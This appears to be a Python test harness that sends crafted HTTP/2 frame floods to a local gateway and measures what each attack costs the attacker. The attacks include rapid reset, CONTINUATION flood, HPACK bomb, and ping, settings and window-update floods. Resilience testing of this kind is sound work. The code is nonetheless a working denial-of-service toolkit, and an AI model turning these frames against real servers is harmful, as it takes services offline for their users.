"""One attack of HTTP/2 (safety.md C2) on the gateway, as cheap for the attacker as Python allows: its bytes are made
before the clock starts and leave in large writes, and nothing that comes back is read while they do.

    attacker.py ATTACK PORT CA SECONDS    again and again, on fresh connections, for so long
    attacker.py ATTACK PORT CA hold N     N connections that are kept for a minute

Prints JSON: seconds of processor time that it cost, bytes sent, connections."""

import json
import socket
import ssl
import sys
import time

# The origin of the second never answers.
HOST = "wait.test" if sys.argv[1] in ("waiting", "hpack_heads", "settings_window") else "good.test"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def number(first, prefix, value):
    most = (1 << prefix) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytes([first | most]), value - most
    while value >= 128:
        out, value = out + bytes([value % 128 + 128]), value // 128
    return out + bytes([value])


def field(name, value, kind=0):
    return bytes([kind]) + number(0, 7, len(name)) + name.encode() + number(0, 7, len(value)) + value.encode()


def indexed(path="/small"):
    """A GET that is put into the table, and the same by its indices: a dozen bytes."""
    first = b"\x82\x87" + field(":authority", HOST, 0x40) + field(":path", path, 0x40)
    return first, b"\x82\x87\xbf\xbe"


def requests(path, count, tail=lambda stream: b"", flags=END_STREAM | END_HEADERS):
    first, again = indexed(path)
    return b"".join(frame(HEADERS, flags, stream, first if stream == 1 else again) + tail(stream)
                    for stream in range(1, 2 * count, 2))


def word(value):
    return value.to_bytes(4, "big")


def bytes_of(attack):
    """Settings, and what follows."""
    none = frame(SETTINGS, 0, 0)
    large = field("x", "a" * 3900, 0x40)
    get = b"\x82\x87" + field(":authority", HOST) + field(":path", "/wait")
    upload = frame(HEADERS, END_HEADERS, 1, b"\x83\x87" + field(":authority", HOST) + field(":path", "/small"))
    return {
        "nothing": lambda: none,
        "requests": lambda: none + requests("/small", 100),
        "rapid_reset": lambda: none + requests("/small", 2000, lambda stream: frame(RESET, 0, stream, word(8))),
        "made_you_reset": lambda: none + requests("/small", 2000,
                                                  lambda stream: frame(WINDOW_UPDATE, 0, stream, word(0x7fffffff))),
        "made_you_reset_data": lambda: none + requests("/small", 2000, lambda stream: frame(DATA, 0, stream, b"x")),
        "continuation": lambda: none + frame(HEADERS, 0, 1, get) + 5000 * frame(CONTINUATION, 0, 1, field("x", "y")),
        "hpack_bomb": lambda: none + frame(HEADERS, END_STREAM | END_HEADERS, 1, get + large + 12000 * b"\xbe"),
        "hpack_heads": lambda: none + b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, stream, get + (large if stream == 1 else 14 * b"\xbe"))
            for stream in range(1, 200, 2)),
        "table_flips": lambda: none + b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, stream, 4000 * (b"\x20" + number(0x20, 5, 4096)) + get)
            for stream in range(1, 20, 2)),
        "ping": lambda: none + 10000 * frame(PING, 0, 0, b"abcdefgh"),
        "settings": lambda: none + 10000 * frame(SETTINGS, 0, 0),
        "settings_window": lambda: none + requests("/wait", 100) + 10000 * frame(SETTINGS, 0, 0, b"\0\4" + word(1000)),
        "priority": lambda: none + 10000 * frame(PRIORITY, 0, 101, word(0) + b"\x10"),
        "window_update": lambda: none + 10000 * frame(WINDOW_UPDATE, 0, 0, word(1)),
        "empty_data": lambda: none + upload + 10000 * frame(DATA, 0, 1),
        "dribble": lambda: none + upload + 10000 * frame(DATA, 0, 1, b"x"),
        "no_requests": lambda: none + requests(" ", 100),
        "zero_window": lambda: frame(SETTINGS, 0, 0, b"\0\4" + word(0)) + requests("/big.bin", 100),
        "slow_read": lambda: frame(SETTINGS, 0, 0, b"\0\4" + word(0x7fffffff)) +
                             frame(WINDOW_UPDATE, 0, 0, word(0x70000000)) + requests("/big.bin", 100),
        "waiting": lambda: none + requests("/wait", 100),
    }[attack]()


class Connection:
    def __init__(self, port, context):
        self.raw = socket.create_connection(("127.0.0.1", port), 10)
        self.raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.raw.sendall(f"CONNECT {HOST}:443 HTTP/1.1\r\nHost: {HOST}:443\r\n\r\n".encode())
        held = b""
        while b"\r\n\r\n" not in held:
            held += self.raw.recv(1)
        # Over buffers of ours, so that what it sends can be counted, and is written when we say so.
        self.tls = context.wrap_socket(self.raw, server_hostname=HOST)
        assert self.tls.selected_alpn_protocol() == "h2"

    def send(self, data):
        self.tls.settimeout(3)
        try:
            self.tls.sendall(data)
            return len(data)
        except OSError:
            return len(data)  # It was ended; what left is more than what was read.

    def drain(self):
        """Until the gateway ends it."""
        self.tls.settimeout(3)
        try:
            while self.tls.recv(65536):
                pass
        except OSError:
            pass


def main():
    attack, port, ca, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"] if HOST == "wait.test" else ["h2", "http/1.1"])
    data = PREFACE + bytes_of(attack)
    sent, kept, count = 0, [], 0
    begun, wall = time.process_time(), time.monotonic()
    if mode == "hold":
        for _ in range(int(sys.argv[5])):
            kept.append(Connection(port, context))
            sent += kept[-1].send(data)
        count = len(kept)
    else:
        while time.monotonic() - wall < float(mode):
            one = Connection(port, context)
            sent += one.send(data)
            one.tls.close()
            count += 1
    print(json.dumps({"cpu": time.process_time() - begun, "sent": sent, "connections": count}), flush=True)
    if kept:
        time.sleep(60)  # Who measures ends it sooner.


main()
